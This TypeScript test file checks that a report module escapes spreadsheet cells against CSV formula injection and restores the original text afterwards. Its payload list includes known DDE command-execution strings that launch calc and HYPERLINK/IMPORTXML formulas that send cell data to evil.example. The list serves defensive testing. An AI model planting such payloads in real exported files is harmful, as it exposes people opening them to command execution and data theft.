import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { plainCell, safeCell } from '../../../src/report/results/results.ts';
import { anyCharacter } from '../../any-character.ts';
import { repeats } from '../../helpers.ts';

/** OWASP's CSV Injection page, PayloadsAllTheThings, and what Excel and LibreOffice are known to take. */
const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=1+1`,
  `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
  `=IMPORTXML(CONCAT("http://evil.example/?v=",A2:E2),"//a")`,
  `=DDE("cmd";"/C calc";"!A0")A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!E1`,
  `-1-2`,
  `+1+1`,
  `+91-98745-32456`,
  `+`,
  `-`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `\tplain`,
  `\0=1+1`,
  `  =1+1`,
  `\u00a0=1+1`,
  `\ufeff=1+1`,
  `\u200b=1+1`,
  `"=1+1"`,
  `'=1+1`,
  `"'=1+1`,
  `“=1+1`,
  `＝1+1`,
  `＋1`,
  `－1`,
  `＠SUM(A1)`,
  ` ＝1+1`,
  `−1+2`,
];

describe('no payload begins as a formula', () => {
  test.each(PAYLOADS)('%j', (payload) => {
    for (const excel of [false, true]) {
      const written = safeCell(payload, { excel });
      expect(written).toBe(`'${payload}`);
      expect(plainCell(written, { excel })).toBe(payload);
    }
  });
});

test.each([
  'Asha',
  '',
  'a=b',
  '919874532456',
  '+91 98745 32456',
  '+919874532456',
  '-5',
  '-5.25',
  "O'Neil",
  "'quoted'",
  '(+91) 98745',
  '120363371308389685@g.us',
  '1-2',
  'e-mail: a@b.c',
])('%j is left as it is', (harmless) => {
  expect(safeCell(harmless)).toBe(harmless);
  expect(plainCell(harmless)).toBe(harmless);
});

test.each([
  '919874532456',
  '919874532456.0',
  '+919874532456',
  '+91 98745 32456',
  '0071',
  '00 71',
  '9.19875E+11',
  '1e5',
])('Excel would change %j, and may not', (number) => {
  expect(safeCell(number, { excel: true })).toBe(`'${number}`);
  expect(plainCell(`'${number}`, { excel: true })).toBe(number);
});

test.each(['42', '0', '0.5', '-5', '20250126', '9198745324', '2025-01-26T17:14:27.000Z'])(
  'Excel may have %j',
  (number) => {
    expect(safeCell(number, { excel: true })).toBe(number);
  },
);

test('every text comes back, and none begins as a formula', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      "'",
      '"',
      '=',
      '+',
      '-',
      '@',
      ' ',
      '\t',
      '\n',
      '\r',
      '＝',
      '\u200b',
      '0',
      '919874532456',
      '1e5',
      'x',
      '.',
    ),
    fc.string({ unit: anyCharacter }),
  );
  const text = fc.array(piece, { maxLength: 6 }).map((pieces) => pieces.join(''));
  fc.assert(
    fc.property(text, fc.boolean(), (original, excel) => {
      const written = safeCell(original, { excel });
      expect(plainCell(written, { excel })).toBe(original);
      expect(/^[=@\t\r\n]/.test(written)).toBe(false);
      if (/^[+-]/.test(written)) expect(written).toMatch(/^[+-][\d ]+(?:[.,]\d+)?$/);
    }),
    { numRuns: repeats(10_000) },
  );
});
